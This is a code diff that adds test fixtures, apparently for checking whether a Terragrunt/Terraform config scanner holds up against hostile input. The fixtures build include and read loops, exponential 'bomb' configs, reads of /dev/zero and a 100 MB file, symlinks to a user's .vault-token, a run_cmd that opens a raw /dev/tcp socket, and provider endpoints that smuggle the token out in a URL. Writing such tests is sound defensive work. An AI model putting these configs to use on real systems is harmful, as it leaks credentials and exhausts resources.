@@ -191,3 +191,44 @@ WITHOUT_KEYS.add("process")
 def process_relative(folder, port):
     provider(folder, 'profile = "p"\nshared_config_files = ["cfg"]')
     put(folder, "cfg", "[profile p]\ncredential_process = ./steal\n")
+
+
+# ---- Terragrunt units: endless readings, and files of the user's ----
+def unit(name, files, more=None):
+    def make(folder, port):
+        put(folder, "main.tf", USE)
+        for file, text in files.items():
+            put(folder, file, text.replace("PORT", str(port)))
+        if more:
+            more(folder)
+    ALL["terragrunt-" + name] = make
+
+
+INCLUDE = 'include "a" {\n path = "%s"\n}\n'
+PROVIDER = ('generate "p" {\n path = "p.tf"\n if_exists = "overwrite"\n contents = <<EOF\nprovider "aws" {\n region = "eu-west-1"\n'
+            'endpoints {\n sts = "%s/${local.x}"\n}\n}\nEOF\n}\n' % HOST)
+unit("includes-itself", {"terragrunt.hcl": INCLUDE % "./terragrunt.hcl"})
+unit("includes-loop", {"terragrunt.hcl": INCLUDE % "./b.hcl", "b.hcl": INCLUDE % "./terragrunt.hcl"})
+unit("reads-loop", {"terragrunt.hcl": 'locals {\n a = read_terragrunt_config("b.hcl")\n}\n',
+                    "b.hcl": "locals {\n" + "".join(' a%d = read_terragrunt_config("terragrunt.hcl")\n' % i for i in range(9)) + "}\n"})
+unit("reads-bomb", {("f%d.hcl" % i if i else "terragrunt.hcl"):
+                    "locals {\n" + "".join(' x%d = read_terragrunt_config("f%d.hcl")\n' % (k, i + 1) for k in range(4)) + "}\n" for i in range(30)})
+unit("locals-bomb", {"terragrunt.hcl": 'locals {\n a0 = "xxxxxxxxxxxxxxxxxxxx"\n' + "".join(
+    ' a%d = "${local.a%d}${local.a%d}${local.a%d}"\n' % (i, i - 1, i - 1, i - 1) for i in range(1, 40)) + "}\ninputs = { z = local.a39 }\n"})
+unit("locals-loop", {"terragrunt.hcl": "locals {\n a = local.b\n b = local.a\n}\n"})
+unit("endpoint", {"terragrunt.hcl": 'locals {\n x = "x"\n}\n' + PROVIDER})
+unit("inputs-bomb", {"terragrunt.hcl": "inputs = { z = [for a in range(1000) : [for b in range(1000) : [for c in range(1000) : a]]] }\n"})
+unit("links", {"terragrunt.hcl": INCLUDE % "./root.hcl"}, lambda folder: os.symlink("../home/.vault-token", os.path.join(folder, "root.hcl")))
+unit("zero", {"terragrunt.hcl": INCLUDE % "/dev/zero"})
+unit("run-cmd", {"terragrunt.hcl": 'locals {\n x = run_cmd("sh", "-c", "exec 3<>/dev/tcp/127.0.0.1/PORT; echo x >&3")\n}\n'})
+for kind, expression in {"tfvars": 'read_tfvars_file("%s/.vault-token")', "config": 'read_terragrunt_config("%s/.vault-token")',
+                         "file": 'file("%s/.vault-token")', "link": 'read_tfvars_file("link.json")'}.items():
+    unit("taint-" + kind, {"terragrunt.hcl": "locals {\n x = urlencode(jsonencode(%s))\n}\n" % expression.replace("%s", "${get_env(\"HOME\")}") + PROVIDER},
+         lambda folder: os.symlink("../home/.vault-token", os.path.join(folder, "link.json")))
+
+
+@folder_of("terragrunt-large")
+def terragrunt_large(folder, port):
+    put(folder, "main.tf", USE)
+    with open(os.path.join(folder, "terragrunt.hcl"), "wb") as f:
+        f.truncate(100 << 20)
